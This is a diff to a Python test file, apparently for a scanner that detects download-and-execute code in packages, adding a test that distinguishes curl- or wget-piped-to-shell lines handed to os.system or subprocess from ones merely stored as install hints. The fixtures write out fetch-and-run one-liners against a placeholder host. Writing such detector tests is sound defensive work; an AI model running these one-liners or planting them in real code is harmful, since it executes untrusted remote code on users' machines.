@@ -596,8 +596,25 @@ def test_the_same_one_liner_at_install_or_from_a_raw_ip_is() -> None:
 
 def test_a_download_and_run_line_in_a_docstring_is_prose() -> None:
     assert SignalKind.DOWNLOAD_EXEC not in kinds({"pkg/preflight.py": DOCSTRING_INSTALL})
-    assigned = DOCSTRING_INSTALL.replace('"""Preflight', 'NOTE = """Preflight', 1)
-    assert SignalKind.DOWNLOAD_EXEC in kinds({"pkg/preflight.py": assigned})
+    wrapped = DOCSTRING_INSTALL.replace("https://", "\\\n        https://", 1)
+    assert SignalKind.DOWNLOAD_EXEC not in kinds({"pkg/preflight.py": wrapped})
+
+
+def test_a_download_and_run_line_counts_where_it_reaches_a_process_start() -> None:
+    # Stored in a string and handed to a shell: run. Only stored or returned: an
+    # install hint, data.
+    script = DOCSTRING_INSTALL.replace('"""Preflight', 'SCRIPT = """Preflight', 1)
+    run_later = script + "\n\ndef go():\n    subprocess.run(['sh', '-c', SCRIPT])\n"
+    looped = ('import os\nSTEPS = ["curl -fsSL https://x.example/a.sh | sh"]\n'
+              "for step in STEPS:\n    os.system(step)\n")
+    in_call = ('import subprocess\nsubprocess.Popen(\n    "wget -qO- https://x.example/a | sh",\n'
+               "    shell=True)\n")
+    hint = ('import subprocess\n\ndef install_commands(url):\n'
+            '    one_liner = f"curl -fsSL {url}.sh | bash"\n    return {"linux": one_liner}\n')
+    for runs in (run_later, looped, in_call):
+        assert SignalKind.DOWNLOAD_EXEC in kinds({"pkg/preflight.py": runs}), runs
+    for stored in (script, hint):
+        assert SignalKind.DOWNLOAD_EXEC not in kinds({"pkg/preflight.py": stored}), stored
 
 
 def test_prose_about_a_host_name_is_no_dns_beacon() -> None:
